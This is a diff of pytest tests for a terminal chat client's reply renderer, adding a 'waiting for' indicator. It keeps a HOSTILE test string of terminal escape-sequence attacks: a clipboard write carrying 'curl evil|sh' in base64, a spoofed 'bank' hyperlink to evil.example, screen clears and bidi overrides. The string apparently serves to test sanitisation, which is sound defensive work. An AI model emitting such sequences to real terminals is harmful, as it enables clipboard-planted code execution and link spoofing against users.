@@ -16,11 +16,11 @@ from typing import TYPE_CHECKING
 import pytest
 
 from chorus_cli.core.errors import ModelError, OutputError
-from chorus_cli.core.events import Notice, ReasoningDelta, TextDelta, TurnDone
+from chorus_cli.core.events import Asking, Notice, ReasoningDelta, TextDelta, TurnDone
 from chorus_cli.core.messages import Status
 from chorus_cli.terminal.reply_stream import show_events
 from chorus_cli.terminal.screen import Screen
-from tests.terminal.markdown_screens import Size, Window
+from tests.terminal.terminal_file import XTERM, TerminalFile, seen
 
 if TYPE_CHECKING:
     from collections.abc import AsyncGenerator, Callable, Iterator
@@ -30,7 +30,7 @@ if TYPE_CHECKING:
 
 _LONGER_THAN_A_FRAME_SECONDS = 0.2  # a frame on its way would be one of the old size
 DONE = TurnDone(1, Status.COMPLETE)
-XTERM = {"TERM": "xterm-256color"}
+ASKING = Asking("gpt-4o-mini")
 HOSTILE = (
     "\x1b]52;c;Y3VybCBldmlsfHNo\x07\n\x1b[2J\x1b[H \x9b31m \x1b]8;;http://evil.example\x1b\\bank\x1b]8;;\x1b\\\n\n"
     "\x1b[6n \x1b[c a\u202eb &#x202e;c &rlm; &#27;[2J &#155;d <http://e.example/%1B%5B2J%E2%80%AE>\n\n"
@@ -38,26 +38,6 @@ HOSTILE = (
     "[bank.example](http://evil.example) ![\x1b[2J](\x1b]52;c;eA==\x07) </kbd>\n\n"
     "```\x1b[2J\n\x1b[2J\x9b2J\n```\n\n" + "megabyte " * 12_000 + "\n\nlast words"
 )
-
-
-class TerminalFile(io.StringIO):
-    """A terminal that shows what it is sent; ``failure`` is what becomes of it then."""
-
-    def __init__(self, size: Size | None = None) -> None:
-        super().__init__()
-        self.window = Window(size or Size())
-        self.written = ""
-        self.failure: OSError | None = None
-
-    def isatty(self) -> bool:
-        return True
-
-    def write(self, text: str) -> int:
-        if self.failure:
-            raise self.failure
-        self.written += text
-        self.window.write(text)
-        return len(text)
 
 
 @pytest.fixture(autouse=True)
@@ -83,13 +63,6 @@ async def shown(*steps: TurnEvent | float, environment: dict[str, str] | None = 
     return file
 
 
-async def seen(condition: Callable[[], bool]) -> None:
-    """Wait until the terminal shows something."""
-    async with asyncio.timeout(10):
-        while not condition():  # noqa: ASYNC110 - it is another task that writes
-            await asyncio.sleep(0.01)
-
-
 async def test_a_reply_is_painted_as_markdown() -> None:
     file = await shown(
         TextDelta("# He"), 0.1, TextDelta("ad\n\nsome *te"), TextDelta("xt* &am"), TextDelta("p; more"), DONE
@@ -101,7 +74,14 @@ async def test_a_reply_is_painted_as_markdown() -> None:
 @pytest.mark.parametrize("environment", [{"TERM": "dumb"}, {"TERM": "dumb", "NO_COLOR": "1"}])
 async def test_a_dumb_terminal_gets_the_words_as_they_come(environment: dict[str, str]) -> None:
     file = await shown(
-        TextDelta("# He"), TextDelta("ad\n*te"), ReasoningDelta("hm"), TextDelta("xt*"), DONE, environment=environment
+        ASKING,
+        0.4,
+        TextDelta("# He"),
+        TextDelta("ad\n*te"),
+        ReasoningDelta("hm"),
+        TextDelta("xt*"),
+        DONE,
+        environment=environment,
     )
     assert file.written == "# Head\n*text*\n"
 
@@ -110,7 +90,7 @@ async def test_a_pipe_gets_the_words_as_they_come() -> None:
     stream = io.StringIO()
     screen = Screen(stream, XTERM)
     done = await show_events(
-        turn(ReasoningDelta("hm"), TextDelta("# He"), TextDelta("ad\r\n*x*"), DONE), screen, screen
+        turn(ASKING, 0.4, ReasoningDelta("hm"), TextDelta("# He"), TextDelta("ad\r\n*x*"), DONE), screen, screen
     )
     assert (stream.getvalue(), done) == ("# Head\n*x*\n", DONE)
 
@@ -153,6 +133,67 @@ async def test_thoughts_between_two_parts_of_the_reply_leave_nothing_either() ->
     )
     assert "thinking" in file.written
     assert file.window.text() == ["One two"]
+
+
+WAITING = " waiting for gpt-4o-mini … "
+
+
+@pytest.mark.parametrize(
+    ("something", "line"),
+    [
+        (TextDelta("Tea *it* is."), "Tea it is."),
+        (ReasoningDelta("hm"), "thinking … "),
+        (Notice("Trying again in 1 s."), "Trying again in 1 s."),
+    ],
+    ids=["words", "a thought", "what happened"],
+)
+async def test_who_is_waited_for_is_said_until_something_comes(something: TurnEvent, line: str) -> None:
+    file = TerminalFile()
+    screen = Screen(file, XTERM)
+    comes = asyncio.Event()
+
+    async def events() -> AsyncGenerator[TurnEvent, None]:
+        yield ASKING
+        await comes.wait()
+        yield something
+        await asyncio.sleep(60)
+
+    showing = asyncio.create_task(show_events(events(), screen, screen))
+    await seen(lambda: WAITING in "".join(file.window.text()))
+    comes.set()
+    await seen(lambda: "".join(file.window.text()).startswith(line))
+    written = file.written.count(WAITING)
+    await asyncio.sleep(_LONGER_THAN_A_FRAME_SECONDS)
+    assert file.written.count(WAITING) == written
+    showing.cancel()
+    with suppress(asyncio.CancelledError):
+        await showing
+
+
+@pytest.mark.parametrize("end", ["a failure", "Ctrl-C"])
+async def test_who_is_waited_for_is_gone_when_nothing_comes(end: str) -> None:
+    file = TerminalFile()
+    screen = Screen(file, XTERM)
+    over = asyncio.Event()
+
+    async def events() -> AsyncGenerator[TurnEvent, None]:
+        yield ASKING
+        await over.wait()
+        yield TurnDone(1, Status.FAILED, error=ModelError("The line is dead."))
+
+    showing = asyncio.create_task(show_events(events(), screen, screen))
+    await seen(lambda: WAITING in "".join(file.window.text()))
+    if end == "Ctrl-C":
+        showing.cancel()
+    over.set()
+    with suppress(asyncio.CancelledError):
+        await showing
+    assert file.window.text() == ([] if end == "Ctrl-C" else ["The line is dead."])
+
+
+async def test_a_quick_answer_is_not_waited_for() -> None:
+    file = await shown(ASKING, 0.1, TextDelta("Tea."), DONE)
+    assert "waiting" not in file.written
 
 
 async def test_a_notice_stands_above_what_is_still_open() -> None:
